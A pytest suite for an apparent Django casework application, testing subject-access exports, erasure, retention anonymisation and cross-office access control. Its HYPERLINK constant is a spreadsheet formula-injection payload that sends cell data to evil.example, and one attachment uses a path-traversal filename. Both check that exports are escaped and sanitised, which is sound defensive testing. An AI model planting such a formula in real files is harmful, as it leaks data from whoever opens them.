import io
import json
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from django.core.files.base import ContentFile
from django.test import Client
from django.utils import timezone

from compassion.cases import privacy
from compassion.cases.cli import retention
from compassion.cases.models import Case, Reply, Status
from compassion.cases.privacy import person_details
from compassion.core.models import AuditEntry, Consent, Person
from compassion.voices.intake import ingest_raw
from compassion.voices.models import Attachment, QuarantinedMessage, Voice
from tests.cases.conftest import make_case
from tests.conftest import Cast


@pytest.fixture(autouse=True)
def files_in_tmp(settings: Any, tmp_path: Path) -> None:
    settings.STORAGES = settings.STORAGES | {
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path},
        }
    }


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


def test_it_exports_everything_held_in_one_archive(client: Client, cast: Cast) -> None:
    Consent.objects.create(person=cast.person, purpose="casework", given=True, source="phone")
    case = make_case(
        cast.office,
        cast.person,
        heard="Keeping my flat",
        body=f"{HYPERLINK}\nMy flat is damp and the café downstairs is loud.",
    )
    Reply.objects.create(
        office=cast.office,
        case=case,
        person=cast.person,
        subject="Re: damp",
        body="We have written to the landlord.",
    )
    make_case(cast.other_office, cast.other_person, body="Ken's private words")
    Voice.objects.filter(case=case).update(
        emotion="distress",
        emotion_words="I can't cope",
        theme="housing",
        request_for_help=True,
        request_words="Can you help",
        flags=[
            {
                "kind": "eviction",
                "label": "Eviction or homelessness imminent",
                "evidence": ["notice to quit"],
            }
        ],
    )
    attachment = Attachment(voice=Voice.objects.get(case=case), filename="../eviction notice.pdf")
    attachment.file.save("notice.pdf", ContentFile(b"%PDF-1.4 the notice"), save=True)
    client.force_login(cast.caseworker)
    assert client.get(f"/cases/people/{cast.person.pk}/subject-access.zip").status_code == 403
    client.force_login(cast.manager)
    response = client.get(f"/cases/people/{cast.person.pk}/subject-access.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert set(archive.namelist()) == {
        "record.json",
        "record.pdf",
        "messages.csv",
        "README.txt",
        f"attachments/{attachment.pk}-eviction notice.pdf",
    }
    assert archive.read(f"attachments/{attachment.pk}-eviction notice.pdf").startswith(b"%PDF")
    record = json.loads(archive.read("record.json"))
    assert record["person"]["email"] == "joan@example.com"
    assert person_details(record["person"])[:2] == [("First name", "Joan"), ("Last name", "Smith")]
    assert record["cases"][0]["what_matters_to_you"] == "Keeping my flat"
    assert "café downstairs" in record["messages"][0]["body"]
    assert record["replies"][0]["body"] == "We have written to the landlord."
    assert record["consents"][0]["source"] == "phone"
    message = record["messages"][0]
    assert message["read_as_tone"] == "Distress" and message["tone_shown_by"] == "I can't cope"
    assert message["read_as_urgent"] == "Eviction or homelessness imminent"
    assert message["read_as_asking_for_help"] and message["asking_shown_by"] == "Can you help"
    assert message["read_as_theme"] == "Housing and repairs"
    assert record["messages"][0]["body"].startswith("'=HYPERLINK")
    assert "Ken" not in archive.read("record.json").decode()
    messages_csv = archive.read("messages.csv").decode()
    assert "'=HYPERLINK" in messages_csv and '\n"=HYPERLINK' not in messages_csv
    assert archive.read("record.pdf").startswith(b"%PDF")
    entry = AuditEntry.objects.get(action="export")
    assert entry.person == cast.person and entry.user == cast.manager


def test_the_export_includes_a_second_record_kept_to_undo_a_merge(
    client: Client, cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    readable: list[str] = []
    monkeypatch.setattr(privacy, "render_pdf", lambda html: readable.append(html) or b"%PDF")
    twin = Person.objects.create(
        office=cast.office, first_name="Joan", last_name="Smith", email="j.smith@work.example"
    )
    client.force_login(cast.manager)
    client.post(f"/people/{cast.person.pk}/merge/", {"duplicate": twin.pk})
    response = client.get(f"/cases/people/{cast.person.pk}/subject-access.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    record = json.loads(archive.read("record.json"))
    [merged] = record["merged_records"]
    assert merged["person"]["email"] == "j.smith@work.example"
    assert merged["kept_until"] > merged["merged_at"]
    assert "A second record of you" in readable[0] and "j.smith@work.example" in readable[0]


def test_it_erases_on_request_and_audits_without_the_data(client: Client, cast: Cast) -> None:
    Consent.objects.create(person=cast.person, purpose="casework", given=True)
    case = make_case(
        cast.office,
        cast.person,
        subject="Joan's debts",
        heard="My debts",
        body="I owe £1,450 to the council, Joan Smith, 4 Mill Lane.",
    )
    Voice.objects.filter(case=case).update(
        emotion_words="I am desperate", request_words="I would be grateful if you could help"
    )
    attachment = Attachment(voice=Voice.objects.get(case=case), filename="payslip.pdf")
    attachment.file.save("payslip.pdf", ContentFile(b"salary"), save=True)
    stored = Path(attachment.file.path)
    client.force_login(cast.manager)
    kept = client.post(f"/cases/people/{cast.person.pk}/erase/")
    assert kept.status_code == 302
    assert Person.objects.get(pk=cast.person.pk).erased_at is None

    client.post(f"/cases/people/{cast.person.pk}/erase/", {"confirm": "erase"})
    person = Person.objects.get(pk=cast.person.pk)
    assert person.erased_at and person.first_name == "" and person.email == ""
    assert not Consent.objects.filter(person=person).exists()
    case.refresh_from_db()
    assert case.subject == "[erased]" and case.heard == ""
    erased = Voice.objects.get(case=case)
    assert erased.body == "" and erased.emotion_words == "" and erased.request_words == ""
    assert not Attachment.objects.exists() and not stored.exists()
    entry = AuditEntry.objects.get(action="erase")
    assert "Joan" not in entry.summary and "debt" not in entry.summary.lower()
    assert "1 case" in entry.summary
    search = client.get("/cases/", {"status": "", "q": "Mill Lane"}).content.decode()
    assert case.reference not in search
    assert client.get(f"/cases/people/{cast.person.pk}/").status_code == 404


def test_it_never_lets_another_office_export_or_erase(client: Client, cast: Cast) -> None:
    client.force_login(cast.outsider)
    assert client.get(f"/cases/people/{cast.person.pk}/subject-access.zip").status_code == 404
    assert (
        client.post(f"/cases/people/{cast.person.pk}/erase/", {"confirm": "erase"}).status_code
        == 404
    )
    assert Person.objects.get(pk=cast.person.pk).erased_at is None


def test_retention_dry_run_changes_nothing_then_apply_anonymises(cast: Cast) -> None:
    long_ago = timezone.now() - timedelta(days=365 * 7)
    old = make_case(
        cast.office,
        cast.person,
        subject="Old housing case",
        status=Status.CLOSED,
        outcome="helped",
        closed_at=long_ago,
        opened_at=long_ago,
        body="Old words about my flat.",
    )
    recent = make_case(
        cast.office,
        cast.person,
        subject="Recent case",
        status=Status.CLOSED,
        outcome="helped",
        closed_at=timezone.now() - timedelta(days=30),
    )
    loner = Person.objects.create(office=cast.office, first_name="Lone", email="lone@example.com")
    lone_case = make_case(
        cast.office,
        loner,
        status=Status.CLOSED,
        outcome="referred",
        closed_at=long_ago,
        opened_at=long_ago,
        body="Only ever wrote once.",
    )
    runner = CliRunner()

    dry = runner.invoke(retention, ["--dry-run"])
    assert dry.exit_code == 0, dry.output
    assert "2 case(s) closed over 6 year(s) ago would be anonymised" in dry.output
    assert Case.objects.get(pk=old.pk).subject == "Old housing case"

    applied = runner.invoke(retention, ["--apply"])
    assert "2 case(s) anonymised" in applied.output
    old.refresh_from_db()
    assert old.subject == "[anonymised]" and old.person is None and old.outcome == "helped"
    assert Voice.objects.get(case=old).body == ""
    assert Case.objects.get(pk=recent.pk).subject == "Recent case"
    assert Person.objects.get(pk=cast.person.pk).erased_at is None
    assert Person.objects.get(pk=loner.pk).erased_at is not None
    assert Case.objects.get(pk=lone_case.pk).person is None
    assert AuditEntry.objects.filter(action="erase", object_type="case").count() == 2
    again = runner.invoke(retention, ["--apply"])
    assert "0 case(s) anonymised" in again.output


def test_erasure_deletes_the_original_of_a_message_let_in_from_quarantine(
    client: Client, cast: Cast
) -> None:
    """A message let in from quarantine keeps its original bytes there, with every word of
    it, and 'Download the original' still served them after the person was erased."""
    whole = (
        b"From: Joan Smith <joan@example.com>\r\nSubject: My debts\r\n"
        b"Content-Type: multipart/mixed; boundary=XX\r\n\r\n--XX\r\n"
        b"Content-Type: text/plain\r\n\r\nI owe 1,450 pounds, 4 Mill Lane.\r\n"
    )
    ingest_raw(cast.office, whole, "office.mbox #7")
    item = QuarantinedMessage.objects.get()
    original = Path(item.raw.path)
    client.force_login(cast.manager)
    client.post(f"/inbox/quarantine/{item.pk}/retry/", {"accept": "incomplete"})
    person = Voice.objects.get().person
    client.post(f"/cases/people/{person.pk}/erase/", {"confirm": "erase"})
    assert not original.exists()
    assert client.get(f"/inbox/quarantine/{item.pk}/original/").status_code == 404
    assert not QuarantinedMessage.objects.exists()


def test_the_rights_page_names_other_records_that_may_be_the_same_person(
    client: Client, cast: Cast
) -> None:
    """A subject access archive or an erasure covers one record: a second record of the
    same person (the same email) kept its messages out of the archive and its details after
    the erasure, and the page said nothing of it."""
    twin = Person.objects.create(
        office=cast.office, first_name="Joan", last_name="Smith", email="joan@example.com"
    )
    elsewhere = Person.objects.create(
        office=cast.other_office, first_name="Joan", email="joan@example.com"
    )
    client.force_login(cast.manager)
    page = client.get(f"/cases/people/{cast.person.pk}/").content.decode()
    assert "Other records that may be this person" in page
    assert f'<a href="/people/{twin.pk}/">Joan Smith</a>' in page
    assert f"/people/{elsewhere.pk}/" not in page
